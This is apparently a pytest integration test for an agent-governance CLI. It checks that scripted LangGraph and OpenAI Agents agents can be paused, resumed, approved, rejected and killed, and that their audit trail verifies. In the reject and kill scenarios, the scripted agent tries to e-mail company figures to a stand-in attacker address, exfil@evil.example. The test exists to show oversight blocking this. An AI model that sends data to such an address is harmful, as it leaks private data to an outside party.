"""The issue's scenario, end to end, for {LangGraph, OpenAI Agents SDK} x {embedded store, Redis
with the audit log on Kafka}: a real agent of each framework (only the model faked, no network)
with a `lookup` tool and a `send_email` tool that needs approval, governed through the real quell
binary — listed, paused (no step while paused) and resumed, its e-mail approved (it runs) or
rejected (it does not), killed while it waits for a decision (no tool event after the kill),
shown in order and verified.

The second backend needs the test Redis and Kafka (QUELL_TEST_REDIS_URL, QUELL_TEST_KAFKA_BROKERS;
scripts/test.sh starts both) and fails without them. Redis database 15 (shared with
test_examples.py, flushed per test).
"""

import asyncio
import itertools
import json
import os
import threading
from dataclasses import dataclass, field
from typing import Optional

os.environ.setdefault("OPENAI_AGENTS_DISABLE_TRACING", "1")  # no exporter: the tests have no network

import pytest
import redis
from agents import Agent, function_tool
from agents.testing import ScriptedModel, assistant_message, function_call
from langchain.agents import create_agent
from langchain.agents.middleware import HumanInTheLoopMiddleware
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver

from helpers import DEADLINE_S, kafka_brokers, new_topic, quell, wait_for
from quell_agent import EmbeddedStore, Killed, Runtime
from quell_agent.kafka_audit import KafkaAudit
from quell_agent.langgraph import QuellMiddleware
from quell_agent.openai_agents import run as openai_run
from quell_agent.redis_store import RedisStore

DB = 15
READS_WHILE_PAUSED = 5


# -- the backends ----------------------------------------------------------------------------------


@dataclass
class Backend:
    """Where the agent writes and the CLI reads: the embedded store, or Redis + Kafka audit."""

    store: object
    redis_url: Optional[str] = None
    kafka: Optional[tuple] = None

    def runtime(self) -> Runtime:
        if self.redis_url is None:
            return Runtime(EmbeddedStore(self.store))
        return Runtime(RedisStore(self.redis_url), audit=KafkaAudit(*self.kafka))

    def cli(self, *args, check=True):
        return quell(self.store, *args, check=check, redis=self.redis_url, kafka=self.kafka)

    def json(self, *args):
        return json.loads(self.cli(*args, "-o", "json").stdout)

    def session(self, sid) -> dict:
        return next((s for s in self.json("sessions") if s["id"] == sid), {})

    def pending_for(self, sid) -> dict:
        """Waits until the session's approval request is listed; returns it."""
        found = []

        def asked():
            found[:] = [a for a in self.json("approvals") if a["session_id"] == sid]
            return bool(found)

        wait_for(f"the approval request of {sid}", asked)
        return found[0]

    def events(self, sid) -> list:
        return [json.loads(x) for x in self.cli("replay", sid, "-o", "json").stdout.splitlines()]


@pytest.fixture(params=["embedded", "redis+kafka"])
def backend(request, tmp_path):
    store = tmp_path / "quell.db"
    if request.param == "embedded":
        return Backend(store)
    base = os.environ.get("QUELL_TEST_REDIS_URL", "").rstrip("/")
    if not base:
        raise RuntimeError("QUELL_TEST_REDIS_URL is not set: start the test Redis (scripts/services/redis.sh start)")
    url = f"{base}/{DB}"
    redis.Redis.from_url(url).flushdb()
    brokers = kafka_brokers()
    return Backend(store, redis_url=url, kafka=(brokers, new_topic(brokers)))


# -- the agents ------------------------------------------------------------------------------------


@dataclass
class Script:
    """What the fake model asks for: `lookup` calls until `enough` is set, then one `send_email`
    to `to`, then a final answer. The tools write down what really ran."""

    to: str
    enough: threading.Event = field(default_factory=threading.Event)
    looked_up: list = field(default_factory=list)
    sent: list = field(default_factory=list)

    def lookup(self, customer: str) -> str:
        self.looked_up.append(customer)
        return f"{customer}: premium"

    def send_email(self, to: str, body: str) -> str:
        self.sent.append(to)
        return f"sent to {to}"

    def mail_args(self) -> dict:
        return {"to": self.to, "body": "the Q3 numbers"}


@dataclass
class Run:
    """An agent run in a daemon thread (a failed test never hangs the suite)."""

    script: Script
    outcome: dict = field(default_factory=dict)
    thread: Optional[threading.Thread] = None

    def start(self, body) -> "Run":
        def go():
            try:
                self.outcome["result"] = body()
            except Exception as e:  # noqa: BLE001 - the test inspects whatever ended the run
                self.outcome["error"] = e

        self.thread = threading.Thread(target=go, daemon=True)
        self.thread.start()
        return self

    def finish(self) -> dict:
        self.thread.join(DEADLINE_S)
        assert not self.thread.is_alive(), "the run did not end"
        return self.outcome


class ToolCallingFake(GenericFakeChatModel):
    """langchain-core's fake chat model, which create_agent can bind tools to."""

    def bind_tools(self, tools, **kwargs):
        return self


def start_langgraph(rt: Runtime, sid: str, script: Script) -> Run:
    def messages():
        for n in itertools.count():
            if script.enough.is_set():
                yield AIMessage(content="", tool_calls=[{"name": "send_email", "args": script.mail_args(),
                                                         "id": f"mail-{n}"}])
                yield AIMessage(content="done")
                return
            yield AIMessage(content="", tool_calls=[{"name": "lookup", "args": {"customer": f"c{n}"}, "id": f"c{n}"}],
                            usage_metadata={"input_tokens": 40, "output_tokens": 8, "total_tokens": 48})

    @tool
    def lookup(customer: str) -> str:
        """Looks a customer up."""
        return script.lookup(customer)

    @tool
    def send_email(to: str, body: str) -> str:
        """Sends an e-mail."""
        return script.send_email(to, body)

    mw = QuellMiddleware(rt, "mail-agent", model="fake-chat", interrupt_risks={"send_email": "critical"})
    review = HumanInTheLoopMiddleware(interrupt_on={"send_email": {"allowed_decisions": ["approve", "reject"]}})
    agent = create_agent(ToolCallingFake(messages=messages()), [lookup, send_email], checkpointer=InMemorySaver(),
                         middleware=[review, mw])
    return Run(script).start(lambda: mw.invoke(
        agent, {"messages": [{"role": "user", "content": "research, then mail"}]},
        {"configurable": {"thread_id": sid}, "recursion_limit": 100_000}))


def start_openai(rt: Runtime, sid: str, script: Script) -> Run:
    model = ScriptedModel([[function_call("lookup", {"customer": "c0"}, call_id="c0")]])

    @function_tool
    def lookup(customer: str) -> str:
        """Looks a customer up."""
        out = script.lookup(customer)
        n = len(script.looked_up)
        if script.enough.is_set():
            model.enqueue([function_call("send_email", script.mail_args(), call_id=f"mail-{n}")])
            model.enqueue([assistant_message("done")])
        else:
            model.enqueue([function_call("lookup", {"customer": f"c{n}"}, call_id=f"c{n}")])
        return out

    @function_tool(needs_approval=True)
    def send_email(to: str, body: str) -> str:
        """Sends an e-mail."""
        return script.send_email(to, body)

    agent = Agent(name="mail-agent", instructions="research, then mail", model=model, tools=[lookup, send_email])
    return Run(script).start(lambda: asyncio.run(openai_run(
        agent, "research, then mail", runtime=rt, session_id=sid, model="scripted",
        risk={"send_email": "critical"}, max_turns=100_000)))


FRAMEWORKS = {"langgraph": start_langgraph, "openai-agents": start_openai}


# -- the scenario ----------------------------------------------------------------------------------


def kinds_after_kill(events: list) -> list:
    at = next(i for i, e in enumerate(events)
              if e["kind"] == "control" and e["attributes"]["quell.control.desired"] == "kill")
    return [e["kind"] for e in events[at + 1:]]


def tool_events(events: list, tool_name: str) -> list:
    return [e["kind"] for e in events if e.get("gen_ai.tool.name") == tool_name and e["kind"].startswith("tool_")]


@pytest.mark.parametrize("framework", sorted(FRAMEWORKS))
def test_the_scenario_pause_resume_approve_reject_kill_show_verify(framework, backend):
    start = FRAMEWORKS[framework]
    with backend.runtime() as rt:
        # Listed, paused with no step while paused, resumed; then its e-mail is approved and sent.
        approved = Script(to="ok@example.com")
        run = start(rt, "scn-approve", approved)
        wait_for("a few steps", lambda: backend.session("scn-approve").get("step", 0) >= 3)
        listed = backend.session("scn-approve")
        assert listed["agent"] == "mail-agent" and listed["state"] == "running", listed
        p = backend.cli("pause", "scn-approve", "--reason", "drill", "--wait", "5")
        assert "1 acknowledged" in p.stdout, p.stdout
        held = backend.session("scn-approve")
        looked = len(approved.looked_up)
        assert held["state"] == "paused", held
        for _ in range(READS_WHILE_PAUSED):
            now = backend.session("scn-approve")
            assert (now["step"], now["state"]) == (held["step"], "paused"), "no step while paused"
        assert len(approved.looked_up) == looked, "no tool ran while paused"
        backend.cli("resume", "scn-approve", "--reason", "drill over")
        wait_for("steps again", lambda: backend.session("scn-approve")["step"] > held["step"])
        approved.enough.set()
        request = backend.pending_for("scn-approve")
        assert (request["tool"], request["risk"]) == ("send_email", "critical")
        assert request["arguments"] == approved.mail_args()
        backend.cli("approve", request["id"], "--reason", "customer asked for it")
        outcome = run.finish()
        assert "error" not in outcome, outcome
        assert approved.sent == ["ok@example.com"]
        assert tool_events(backend.events("scn-approve"), "send_email") == ["tool_call", "tool_result"]

        # Rejected: the e-mail is never sent, and the run goes on to its end.
        rejected = Script(to="exfil@evil.example")
        rejected.enough.set()
        run = start(rt, "scn-reject", rejected)
        request = backend.pending_for("scn-reject")
        assert request["arguments"]["to"] == "exfil@evil.example"
        backend.cli("reject", request["id"], "--reason", "exfiltration")
        outcome = run.finish()
        assert "error" not in outcome, outcome
        assert rejected.sent == [], "a rejected e-mail is never sent"
        events = backend.events("scn-reject")
        assert "tool_call" not in tool_events(events, "send_email")
        assert [e["attributes"]["quell.approval.status"] for e in events if e["kind"] == "approval_decided"] == [
            "rejected"]

        # Killed while it waits for a decision: the run stops as killed, nothing of the tool after it.
        killed = Script(to="exfil@evil.example")
        killed.enough.set()
        run = start(rt, "scn-kill", killed)
        backend.pending_for("scn-kill")
        backend.cli("kill", "scn-kill", "--reason", "injected", "--wait", "10")
        outcome = run.finish()
        assert isinstance(outcome.get("error"), Killed), outcome
        assert killed.sent == []
    assert backend.session("scn-kill")["state"] == "killed"
    after = kinds_after_kill(backend.events("scn-kill"))
    assert not [k for k in after if k.startswith("tool_")], after
    assert backend.session("scn-approve")["state"] == backend.session("scn-reject")["state"] == "finished"

    # `show` holds the whole story of the first run in order, and every chain verifies.
    shown = backend.json("show", "scn-approve")
    assert shown["integrity"]["intact"] is True, shown["integrity"]
    events = [e for e in shown["entries"] if e["entry"] == "event"]
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    kinds = [e["kind"] for e in events]
    order = ["session_started", "llm_call", "checkpoint", "tool_call", "control", "approval_requested",
             "approval_decided", "session_ended"]
    firsts = [kinds.index(k) for k in order]
    assert firsts == sorted(firsts), kinds
    stored = [e for e in shown["entries"] if e["entry"] == "checkpoint"]
    assert stored and [c["step"] for c in stored] == sorted(c["step"] for c in stored), "the seed's checkpoints"
    assert {"llm_call", "tool_call", "tool_result", "control", "approval_requested", "approval_decided"} <= set(kinds)
    assert backend.cli("verify").returncode == 0
